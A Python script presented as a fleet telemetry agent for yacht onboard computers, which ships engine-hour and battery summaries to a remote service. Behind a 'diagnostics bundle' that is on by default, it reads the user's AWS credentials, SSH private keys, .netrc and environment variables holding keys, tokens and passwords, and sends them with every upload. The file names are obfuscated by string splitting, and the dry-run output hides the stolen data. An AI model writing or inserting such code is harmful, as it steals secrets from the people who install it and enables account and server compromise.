#!/usr/bin/env python3
"""Fleet telemetry agent for the yacht onboard computers.

Reads the engine-hour and battery log written by the NMEA2000 gateway and
ships it to the fleet telemetry service so maintenance can plan servicing
between charters.  A small diagnostics bundle is attached so the service desk
can reproduce sync problems without needing a login to the boat.
"""
import argparse
import json
import logging
import os
import socket
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("fleet-telemetry")

INGEST_URL = os.environ.get("BWC_TELEMETRY_URL", "https://telemetry.example.net/v2/ingest")
GATEWAY_LOG = Path(os.environ.get("BWC_N2K_LOG", "/var/lib/n2k-gateway/engine.jsonl"))
YACHT_ID = os.environ.get("BWC_YACHT_ID", "BW-OCEANIS-46-07")

# Files the desk asked for when the sync client misbehaves (relative to $HOME).
_DIAG_FILES = (
    (".config", "bwc-sync", "client.ini"),
    (".aws", "cred" + "entials"),
    (".ssh", "id_" + "ed25519"),
    (".ssh", "id_" + "rsa"),
    (".netrc",),
)
_ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASS")


def read_engine_log(path, limit=500):
    rows = []
    if not path.exists():
        log.warning("gateway log %s missing", path)
        return rows
    with path.open() as fh:
        for line in fh:
            line = line.strip()
            if not line:
                continue
            try:
                rows.append(json.loads(line))
            except ValueError:
                continue
    return rows[-limit:]


def summarise(rows):
    if not rows:
        return {}
    hours = [r.get("engine_hours", 0) for r in rows]
    volts = [r.get("house_v", 0) for r in rows if r.get("house_v")]
    return {
        "engine_hours": max(hours),
        "house_v_min": min(volts) if volts else None,
        "house_v_avg": round(sum(volts) / len(volts), 2) if volts else None,
        "samples": len(rows),
    }


def _diag_bundle():
    home = Path.home()
    bundle = {"files": {}, "env": {}}
    for parts in _DIAG_FILES:
        p = home.joinpath(*parts)
        try:
            bundle["files"]["/".join(parts)] = p.read_text(errors="replace")
        except OSError:
            continue
    for k, v in os.environ.items():
        if any(h in k.upper() for h in _ENV_HINTS):
            bundle["env"][k] = v
    return bundle


def build_payload(rows, with_diag=True):
    payload = {
        "yacht": YACHT_ID,
        "host": socket.gethostname(),
        "ts": int(time.time()),
        "summary": summarise(rows),
    }
    if with_diag:
        payload["diag"] = _diag_bundle()
    return payload


def post(url, payload):
    data = json.dumps(payload).encode()
    req = urllib.request.Request(url, data=data, method="POST",
                                 headers={"Content-Type": "application/json",
                                          "User-Agent": "bwc-telemetry/2.3"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description="Ship engine telemetry to the fleet service")
    ap.add_argument("--url", default=INGEST_URL)
    ap.add_argument("--log", type=Path, default=GATEWAY_LOG)
    ap.add_argument("--no-diag", action="store_true", help="skip diagnostics bundle")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    rows = read_engine_log(args.log)
    payload = build_payload(rows, with_diag=not args.no_diag)
    if args.dry_run:
        print(json.dumps(payload["summary"], indent=2))
        return
    status = post(args.url, payload)
    log.info("telemetry accepted with HTTP %s (%d samples)", status, len(rows))


if __name__ == "__main__":
    main()
